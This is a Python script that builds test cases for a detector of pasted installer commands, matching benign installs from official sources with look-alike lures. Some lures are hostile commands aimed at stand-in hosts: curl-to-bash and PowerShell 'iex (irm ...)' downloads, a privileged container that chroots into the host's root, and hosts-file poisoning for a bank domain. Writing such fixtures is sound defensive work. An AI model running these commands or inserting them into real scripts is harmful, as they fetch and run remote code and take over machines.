"""Writes tests/data/cases/b8benign.jsonl: installers copied from their own project's page that
were warned about or blocked although the page owns what they fetch, each beside the look-alikes
that must stay flagged or blocked.

    python tests/data/cases/make_b8benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, *.invalid).
No text is copied from a blind set, a lure collection or another detector's fixtures. Each line
is {id, text, expect, technique, platform, source, target}.

Principles:

- `flathub-ref`: a Flatpak reference from Flathub's own app store (https://dl.flathub.org or
  https://flathub.org, /repo/appstream/<app id>.flatpakref) is the store's, an official source
  (resources/trust.yaml), from any page. Look-alikes: a stranger's reference beside Flathub's
  (in the same command or the next one), a host that only starts or ends like Flathub's, a user
  part in front of it, plain HTTP.
- `repo-named-host`: a repository's own page installing from a host named exactly for the
  repository under the author's own domain (github.com/o/widgetdbg and widgetdbg.<someone's
  domain>). Look-alikes: the same from the repository's issues, a gist, a tutorial or no page;
  a host of another name; the name under a tunnel, another name on a tenant site or a shared
  bucket; a name that is a download place's word (get., install.).
- `repo-words-host`: a repository's own page installing from a domain that runs two or more
  of the repository's words together in another order (setup-ipsec-vpn and vpnsetup.net).
  Look-alikes: one word alone, the words with one of another's, from the issues or no page.
- `own-image`: a repository's own page running its own container image, named like the
  repository whoever's registry account holds it, with the host's disk or privileges (a server
  panel that manages the host). Look-alikes: another image, a second stranger's container
  beside it, the same from the issues, a tutorial or a fix page, an image whose name only
  starts like the repository.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b8benign.jsonl")
TERMINAL = "terminal"
STRANGER = "https://www.quillmere-bakery.example/verify/step2"
TUTORIAL = "https://www.shellnotes.example/how-to-install-it-on-debian/"

# -- flathub-ref ---------------------------------------------------------------------------------

APP_IDS = [
    "org.gimp.GIMP", "org.kde.krita", "org.inkscape.Inkscape", "com.example.Tarnwick",
    "io.github.loamdb.Loam", "org.videolan.VLC", "dev.fenwick.Fenwick", "org.gnome.Boxes",
    "net.quorvane.Quorvane", "org.audacityteam.Audacity", "io.example.Brindle", "org.blender.Blender",
]  # fmt: skip
FLATHUB_PAGES = [
    "https://github.com/example-gimp/gimp", "https://www.gimp.example/downloads/", None,
    "https://docs.tarnwick.example/install/linux", "https://github.com/loamdb/loam",
    "https://flathub.org/apps/org.videolan.VLC", None, "https://wiki.example.org/Boxes",
    "https://github.com/quorvane/quorvane", "https://www.audacity.example/download/linux",
    "https://forum.example.org/t/install-brindle/123", "https://www.blender.example/download/",
]  # fmt: skip
FLATHUB_SHAPES = [
    "flatpak install https://{h}/repo/appstream/{a}.flatpakref",
    "flatpak install --from https://{h}/repo/appstream/{a}.flatpakref",
    "flatpak install -y --user https://{h}/repo/appstream/{a}.flatpakref",
    "sudo flatpak install https://{h}/repo/appstream/{a}.flatpakref",
]
FLATHUB_LURES = [
    "flatpak install https://{h}/repo/appstream/{a}.flatpakref && flatpak install "
    "https://cdn.quillmere.example/apps/{a}.flatpakref",
    "flatpak install https://{h}/repo/appstream/{a}.flatpakref; flatpak install --from "
    "https://203.0.113.8/x.flatpakref",
    "flatpak install https://{h}/repo/appstream/{a}.flatpakref "
    "https://dl.quillmere.example/{a}.flatpakref",
    "flatpak install https://{h}.quillmere.example/repo/appstream/{a}.flatpakref",
    "flatpak install https://flathub-{a}.invalid/repo/appstream/{a}.flatpakref",
    "flatpak install https://{h}@dl.quillmere.example/repo/appstream/{a}.flatpakref",
    "flatpak install https://secure{h}/repo/appstream/{a}.flatpakref",
    "flatpak install https://mirror.quillmere.example/{h}/repo/appstream/{a}.flatpakref",
    "flatpak install --from https://files.quillmere.test/{a}.flatpakref",
    "flatpak install https://{h}/repo/appstream/{a}.flatpakref\n"
    "curl -fsSL https://cdn.quillmere.example/post.sh | bash",
]


def flathub_ref(book: Book) -> None:
    for i, app in enumerate(APP_IDS):
        host = ("flathub.org", "dl.flathub.org")[i % 2]
        text = FLATHUB_SHAPES[i % len(FLATHUB_SHAPES)].format(h=host, a=app)
        book.add("flathub-ref", text, "not_flagged", "linux", TERMINAL, FLATHUB_PAGES[i])
    for i, shape in enumerate(FLATHUB_LURES):
        host = ("flathub.org", "dl.flathub.org")[i % 2]
        page = (FLATHUB_PAGES[i], STRANGER, None)[i % 3]
        book.add(
            "flathub-ref", shape.format(h=host, a=APP_IDS[i]), "flagged", "linux", TERMINAL, page
        )
    # a page dressed as a check hands it out: still a warning at least
    book.add(
        "flathub-ref",
        FLATHUB_LURES[0].format(h="dl.flathub.org", a="org.gimp.GIMP"),
        "malicious",
        "linux",
        TERMINAL,
        STRANGER,
    )


# -- repo-named-host ---------------------------------------------------------------------------

# (account, repository, the author's own domain)
REPOS = [
    ("hollin", "gdbkit", "blah-notes.example"), ("arnwick", "tarnwick", "quietpond.example"),
    ("mossbank", "loamctl", "rk.example"), ("pellet", "kelpie", "hedgerow.example"),
    ("brindle", "wickerdb", "meander.example"), ("orrery", "sextant", "lab-notes.example"),
    ("quorv", "halyard", "qv.example"), ("stoneware", "tessera", "tilde.example"),
    ("fennel", "gimbal", "sorrel-works.example"), ("larch", "osprey", "pinecone.example"),
    ("tallgrass", "mizzen", "prairie.example"), ("cobalt", "pwnkit2", "bluehue.example"),
]  # fmt: skip
HOST_SHAPES = [
    'bash -c "$(curl -fsSL https://{r}.{d}/sh)"',
    "curl -fsSL https://{r}.{d}/install.sh | sh",
    "wget -qO- https://{r}.{d}/get | bash",
    'sh -c "$(wget https://{r}.{d}/i -O -)"',
    "curl --proto '=https' -sSf https://{r}.{d} | bash -s -- --yes",
    "curl -fsSL https://www.{r}.{d}/install.sh | bash",
]


def repo_named_host(book: Book) -> None:
    for i, (account, repo, domain) in enumerate(REPOS):
        text = HOST_SHAPES[i % len(HOST_SHAPES)].format(r=repo, d=domain)
        page = (
            f"https://github.com/{account}/{repo}"
            + ("", "#installation", "/blob/main/README.md")[i % 3]
        )
        if "www." in text:
            text = text.replace(f"www.{repo}.", f"docs.{repo}.")
        book.add("repo-named-host", text, "not_flagged", "linux", TERMINAL, page)
    tech = "repo-named-host"
    for i, (account, repo, domain) in enumerate(REPOS):
        text = HOST_SHAPES[i % len(HOST_SHAPES)].format(r=repo, d=domain).replace("www.", "")
        own = f"https://github.com/{account}/{repo}"
        looks = [
            (text, f"{own}/issues/{40 + i}"),  # anyone writes in its issues
            (text, f"https://gist.github.com/quillmere/0a1b2c{i}"),
            (text, None),
            (text, TUTORIAL),
            (HOST_SHAPES[0].format(r="helper", d=domain), own),  # another name on that domain
            (HOST_SHAPES[1].format(r=repo, d="ngrok-free.app"), own),  # a tunnel
            # a shared bucket of another name (one named for the repository is its own:
            # make_b11benign.py, repository-bucket)
            (HOST_SHAPES[2].format(r="helper", d="s3.amazonaws.com"), own),
            (HOST_SHAPES[0].format(r="get", d=domain), f"https://github.com/{account}/get"),
            (HOST_SHAPES[1].format(r=f"{repo}-dl", d=domain), own),  # the name with a word added
            (HOST_SHAPES[0].format(r=repo, d=f"{domain}.quillmere.test"), STRANGER),
        ]
        text, page = looks[i % len(looks)]
        book.add(tech, text, "flagged", "linux", TERMINAL, page)
    # every look-alike for the first repository
    account, repo, domain = REPOS[1]
    own = f"https://github.com/{account}/{repo}"
    for shape in HOST_SHAPES[:4]:
        book.add(
            tech, shape.format(r=repo, d=domain), "flagged", "linux", TERMINAL, f"{own}/pull/7"
        )
        book.add(tech, shape.format(r="updates", d=domain), "flagged", "linux", TERMINAL, own)
        # a tenant site of another name (one named for the repository is its own, as a bucket
        # is: make_b11benign.py, repository-bucket)
        book.add(tech, shape.format(r="updates", d="pages.dev"), "flagged", "linux", TERMINAL, own)


# -- repo-words-host ---------------------------------------------------------------------------

# (account, repository, its domain with the repository's words in another order)
WORDS = [
    ("hwexample", "setup-ipsec-vpn", "vpnsetup.example"), ("kelpco", "deploy-kelp-node", "kelpdeploy.example"),
    ("orrery", "install-tessera-cli", "tesseracli.example"), ("mossbank", "loam-db-server", "serverloam.example"),
    ("fennel", "quick-wire-guard", "wireguardquick.example"), ("larch", "bootstrap-osprey", "ospreybootstrap.example"),
    ("pellet", "panel-brindle", "brindlepanel.example"), ("quorv", "halyard-mail-server", "mailhalyard.example"),
    ("tallgrass", "mizzen-proxy", "proxymizzen.example"), ("cobalt", "node-sextant", "sextantnode.example"),
]  # fmt: skip
WORD_SHAPES = [
    "wget https://get.{d} -O setup.sh && sudo sh setup.sh",
    "curl -fsSL https://{d}/install | sudo bash",
    "wget -qO- https://get.{d} | sh",
    "curl -sSLo run.sh https://dl.{d}/run.sh && bash run.sh",
]


def repo_words_host(book: Book) -> None:
    tech = "repo-words-host"
    for i, (account, repo, domain) in enumerate(WORDS):
        text = WORD_SHAPES[i % len(WORD_SHAPES)].format(d=domain)
        if text.startswith("curl -sSLo"):  # dl. is a download place's word: the domain alone
            text = text.replace("dl.", "")
        book.add(
            tech, text, "not_flagged", "linux", TERMINAL, f"https://github.com/{account}/{repo}"
        )
    for i, (account, repo, domain) in enumerate(WORDS):
        own = f"https://github.com/{account}/{repo}"
        label = domain.split(".")[0]
        looks = [
            (domain, f"{own}/issues/{3 + i}"),
            (domain, None),
            (f"{label}pro.example", own),  # another word run onto them
            (f"{label[:4]}quill.example", own),
            (f"{label}.ngrok.io", own),
            (domain, TUTORIAL),
            (f"{label}-help.example", own),
            (domain, f"https://gist.github.com/quillmere/9f{i}"),
            (f"quill{label}.example", own),
            (domain, STRANGER),
        ]
        host, page = looks[i % len(looks)]
        book.add(
            tech,
            WORD_SHAPES[i % len(WORD_SHAPES)].format(d=host),
            "flagged",
            "linux",
            TERMINAL,
            page,
        )


# -- own-image ---------------------------------------------------------------------------------

# (account, repository, the image's registry account)
IMAGES = [
    ("orbit-panel", "Orbit-Panel", "jdoe"), ("kelp-server", "kelp-server", "kelpdev"),
    ("harbormaster", "harbormaster", "harbormaster"), ("tarnwick", "tarnwick-agent", "tarnwick"),
    ("mossbank", "loampanel", "mossbankhq"), ("brindle", "brindle", "ghcr.io/brindle"),
    ("quorv", "halyard", "quay.io/quorv"), ("fennel", "gimbal-host", "fenneldev"),
    ("larch", "ospreyd", "larchlabs"), ("stoneware", "Tessera", "stoneware"),
]  # fmt: skip
IMAGE_SHAPES = [
    "docker run -d --network host --privileged --name {n} -h {n} --restart=always "
    "-v /var/run/docker.sock:/var/run/docker.sock -v /:/mnt/host {i}:latest",
    "sudo docker run -d --privileged -v /:/host -p 8080:80 --name {n} {i}",
    "docker run -d --privileged --pid=host -v /:/rootfs -e TZ=UTC {i}:2.1",
    "podman run -dit --privileged --volume /:/host {i}",
    "docker run --rm -it --privileged -v /:/hostfs {i}:stable",
]


def own_image(book: Book) -> None:
    tech = "own-image"
    for i, (account, repo, registry) in enumerate(IMAGES):
        name = repo.lower()
        text = IMAGE_SHAPES[i % len(IMAGE_SHAPES)].format(n=name, i=f"{registry}/{name}")
        book.add(
            tech, text, "not_flagged", "linux", TERMINAL, f"https://github.com/{account}/{repo}"
        )
    for i, (account, repo, registry) in enumerate(IMAGES):
        name, own = repo.lower(), f"https://github.com/{account}/{repo}"
        shape = IMAGE_SHAPES[i % len(IMAGE_SHAPES)]
        looks = [
            (shape.format(n=name, i="quillmere/helper"), own),  # someone else's image
            (shape.format(n=name, i=f"{registry}/{name}"), f"{own}/issues/{12 + i}"),
            (shape.format(n=name, i=f"{registry}/{name}"), TUTORIAL),
            (shape.format(n=name, i=f"{registry}/{name}"), STRANGER),
            (shape.format(n=name, i=f"{registry}/{name}-extra"), own),  # starts like it
            (
                shape.format(n=name, i=f"{registry}/{name}")
                + " && docker run --privileged -v /:/h quillmere/x chroot /h sh",
                own,
            ),
            (
                shape.format(n=name, i=f"{registry}/{name}"),
                f"https://gist.github.com/quillmere/{i}",
            ),
            (shape.format(n=name, i="quillmere/" + name[:3]), own),
            (
                shape.format(n=name, i=f"{registry}/{name}")
                + "\necho '203.0.113.7 login.bank.example' | sudo tee -a /etc/hosts",
                own,
            ),
            (shape.format(n=name, i=f"{registry}/{name}"), f"{own}/discussions/{i + 2}"),
        ]
        text, page = looks[i % len(looks)]
        book.add(tech, text, "flagged", "linux", TERMINAL, page)
    # the container named like the repository, the image someone else's: still nobody's
    book.add(
        tech,
        "docker run -d --privileged --name kelp-server -v /:/host quillmere/agent:latest",
        "flagged",
        "linux",
        TERMINAL,
        "https://github.com/kelp-server/kelp-server",
    )


# -- the Run box ---------------------------------------------------------------------------------

RUN = "run_dialog"
BAR = "explorer_bar"
HELP_PAGE = "https://support.harrowfield.example/kb/restart-and-tools"
MAIL = "outlook"

# Windows' own tools (and Office's, Firefox's) with the documented switches of
# resources/runbox.yaml that restart, open a tab or a log, or start in one of their own modes
OWN_SWITCHES = [
    "shutdown /r /t 0", "shutdown /s /t 60", "shutdown.exe /a", "shutdown /r /o /t 0",
    "shutdown.exe /h", "shutdown /g /t 30", "shutdown /s /hybrid /t 0", "shutdown /l",
    "eventvwr /c:Application", "eventvwr /c:System", "eventvwr.exe /c:Security",
    '"eventvwr" /c:Microsoft-Windows-PowerShell/Operational',
    r"eventvwr /l:C:\Temp\saved.evtx", r'eventvwr /l:"%USERPROFILE%\Desktop\app log.evtx"',
    "mstsc /admin", "mstsc /f", "mstsc /public /multimon", "mstsc /w:1280 /h:800",
    "sndvol -f", "sndvol -m", "SndVol.exe -m",
    "taskmgr /7 /startup", "taskmgr /0 /startup", "Taskmgr.exe /3",
    "winword /n /safe", "winword /q /n", "winword.exe /a /safe", "excel /e /safe", "excel /x",
    "firefox -P", "firefox.exe -safe-mode", "firefox -private-window",
    r"C:\Program Files\Mozilla Firefox\firefox.exe -P",
    r'"C:\Program Files\Mozilla Firefox\firefox.exe" -ProfileManager',
    r"%ProgramFiles%\Mozilla Firefox\firefox.exe -safe-mode",
    r"C:\Program Files (x86)\Microsoft Office\root\Office16\WINWORD.EXE /safe /n",
]  # fmt: skip
# Of those, the switches that only pick which of a Windows tool's windows, tabs or logs opens
# (runbox.yaml `pages`, since the twelfth blind set's benign side): the tool alone is already a
# program name from any page, so these are too, whoever wrote them.
PAGE_ONLY = frozenset(
    {
        "eventvwr /c:Application", "eventvwr /c:System", "eventvwr.exe /c:Security",
        '"eventvwr" /c:Microsoft-Windows-PowerShell/Operational', "sndvol -f", "sndvol -m",
        "SndVol.exe -m", "taskmgr /7 /startup", "taskmgr /0 /startup", "Taskmgr.exe /3",
    }
)  # fmt: skip
# typed (no source), still commands: a switch not in the catalogue, a value that is a share or
# an address, a copy of the program anywhere but Program Files, a word too many
OWN_SWITCH_LOOKALIKES = [
    r"shutdown /r /m \\fs02 /t 0", 'shutdown /r /t 0 /c "call 555 0100"', "shutdown /f /r /t 0",
    "shutdown /r /t 0 /r", "shutdown /t now", "shutdown /r calc",
    r"eventvwr /c:\\files.quillmere.example\share", r"eventvwr /l:\\files.quillmere.example\x.evtx",
    "eventvwr /l:https://cdn.quillmere.example/x.evtx", "eventvwr /c:%LOGONSERVER%",
    r"mstsc /edit C:\Users\Public\Downloads\support.rdp", r"mstsc C:\Temp\x.rdp /admin",
    "mstsc /admin /admin", "sndvol -f -f", "sndvol -x", "taskmgr /7 /7", "taskmgr /startup calc",
    r"winword /safe C:\Users\Public\Downloads\invoice.docm", "winword /mFileNew",
    r"winword /n \\files.quillmere.example\a.docm", r"excel /r \\203.0.113.5\x\book.xlsm",
    "excel /e https://cdn.quillmere.example/book.xlsm",
    "firefox -new-window https://verify.quillmere.example/check.hta", "firefox -P -P",
    r"C:\Users\Public\firefox.exe -P", r"%TEMP%\firefox.exe -safe-mode",
    r"%APPDATA%\Mozilla Firefox\firefox.exe -P",
    r"C:\Program Files\..\Users\Public\firefox.exe -P",
    r"\\files.quillmere.example\Program Files\firefox.exe -P",
    r"C:\Program Files\Mozilla Firefox\firefox.exe -P https://cdn.quillmere.example/a.hta",
    r"C:\Program Files\Mozilla Firefox\mshta.exe -P",
]  # fmt: skip

# a console kept open on a command that only shows this computer's state
QUERIES = [
    "cmd /k ipconfig /all", "cmd /k ipconfig /displaydns", "cmd.exe /k systeminfo",
    "cmd /K whoami /groups", "cmd /k netstat -ano", "cmd /k route print", "cmd /k arp -a",
    "cmd /k tasklist /svc", "cmd /k getmac /v", "cmd /k driverquery /v", "cmd /k hostname",
    "powershell -NoExit -Command Get-NetAdapter", "powershell -NoExit Get-Volume",
    "powershell.exe -NoExit -NoProfile -Command Get-Process", "pwsh -NoExit -c Get-NetIPConfiguration",
    "powershell -NoExit -Command ipconfig /all", "powershell -noexit get-service",
    "powershell -NoLogo -NoExit -Command Get-PhysicalDisk",
]  # fmt: skip
# Of those, a console kept open on what only shows this computer's settings and nothing a fake
# support page reads out as "proof" (runbox.Shape.SHOW, since design16's weighing): from any page
PAGE_SHOWN = frozenset({"cmd /k ipconfig /all", "cmd.exe /k systeminfo", "cmd /K whoami /groups",
                        "cmd /k getmac /v", "cmd /k driverquery /v", "cmd /k hostname",
                        "powershell -NoExit -Command Get-NetAdapter", "powershell -NoExit Get-Volume",
                        "pwsh -NoExit -c Get-NetIPConfiguration"})  # fmt: skip
QUERY_LOOKALIKES = [
    "cmd /k ipconfig /all & calc", "cmd /k ipconfig /all && curl -o a.exe https://dl.quillmere.example/a",
    "cmd /c ipconfig /all | clip", "cmd /k ipconfig /release", "cmd /k ipconfig /all /all",
    "cmd /k nslookup -q=txt stage.quillmere.example", "cmd /k ping -n 1 -n 2 203.0.113.9",
    "cmd /k start https://verify.quillmere.example/", "cmd /k curl https://dl.quillmere.example/a",
    r"cmd /k \\files.quillmere.example\share\run.bat", "cmd /k systeminfo extra",
    "cmd ipconfig /all", "cmd /k", r"cmd /k whoami /all > %TEMP%\w.cmd",
    r"powershell -NoExit -Command Get-Content \\files.quillmere.example\x.txt",
    "powershell -NoExit -Command Invoke-WebRequest https://dl.quillmere.example/a",
    "powershell -w h -c Get-Process", "powershell -ep bypass -NoExit -c Get-Process",
    "powershell -NoExit -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzAA==",
    "powershell -NoExit -Command Get-Process; iex (irm https://dl.quillmere.example/a)",
    "powershell -NoExit -File C:\\Users\\Public\\a.ps1", "pwsh -c Get-Process -ComputerName fs02",
    "powershell -NoExit -NoExit -Command Get-Volume", "powershell -NoExit -Command Start-Process calc",
    "powershell -NoExit -Command Get-", "powershell -NoExit -Command Get-Item env:",
]  # fmt: skip

# Windows Terminal started in a folder here, a code editor opening a folder or file here
OPEN_HERE = [
    r"wt -d C:\src", r"wt -d %USERPROFILE%\projects", r'wt -d "C:\Users\sam\My Projects"',
    r"wt -p Ubuntu -d C:\work", r"wt.exe --startingDirectory D:\repos", r"wt -w 0 -d C:\src\api",
    r"code C:\src\website", r"code %USERPROFILE%\notes", r'code "D:\Work Files\site"',
    r"code C:\Users\sam\.gitconfig", r"code-insiders C:\src\app", r"code.exe D:\repos\tool",
]  # fmt: skip
OPEN_LOOKALIKES = [
    r"wt -d \\files.quillmere.example\share", r"wt -d C:\src cmd /c calc",
    r"wt -d %LOGONSERVER%\netlogon", r"wt -d C:\src -d D:\x", "wt -d https://dl.quillmere.example/",
    r"wt -d C:\src powershell -c iwr https://dl.quillmere.example/a", "wt -d",
    r"code \\files.quillmere.example\share\proj", "code https://verify.quillmere.example/",
    "code --install-extension quillmere.helper", r"code C:\src C:\other",
    r"code --folder-uri vscode-remote://ssh-remote+203.0.113.7/home", r"code %HOMESHARE%\proj",
    r"code \\203.0.113.7@SSL\DavWWWRoot\x",
]  # fmt: skip


# Since b18benign's weighing (2026-12-07 afternoon, runbox.yaml `opens`): what a program
# name, a path or an address would open anyway, given to the program that opens it, is
# taken like one of them whoever wrote it, a page or a mail included.
# Here: Remote Desktop's window in its own modes, a browser in a private window or a profile.
OPENS = frozenset({"mstsc /admin", "mstsc /public /multimon",
                   r"C:\Program Files\Mozilla Firefox\firefox.exe -P", "firefox -private-window"})  # fmt: skip


def run_box(book: Book) -> None:
    groups = [
        ("run-box-own-switches", OWN_SWITCHES, OWN_SWITCH_LOOKALIKES),
        ("run-box-query", QUERIES, QUERY_LOOKALIKES),
        ("run-box-open-here", OPEN_HERE, OPEN_LOOKALIKES),
    ]
    for tech, typed, lookalikes in groups:
        for i, text in enumerate(typed):
            book.add(tech, text, "not_flagged", "windows", BAR if i % 6 == 5 else RUN)
        for text in lookalikes:
            book.add(tech, text, "flagged", "windows", RUN)
        # the same entries written by a page: a command in the Run box, blocked
        for i, text in enumerate(typed[::2]):
            page = (HELP_PAGE, STRANGER)[i % 2]
            expect = "not_flagged" if text in PAGE_ONLY | PAGE_SHOWN | OPENS else "malicious"
            book.add(tech, text, expect, "windows", RUN if i % 3 else BAR, page)
        # ...or by a mail or a chat: a command there, at least a warning
        for text in typed[1::5]:
            book.add(
                tech,
                text,
                "not_flagged" if text in PAGE_ONLY | PAGE_SHOWN | OPENS else "flagged",
                "windows",
                RUN,
                MAIL,
            )


def build() -> list[dict[str, str]]:
    book = Book("b8b")
    flathub_ref(book)
    repo_named_host(book)
    repo_words_host(book)
    own_image(book)
    run_box(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
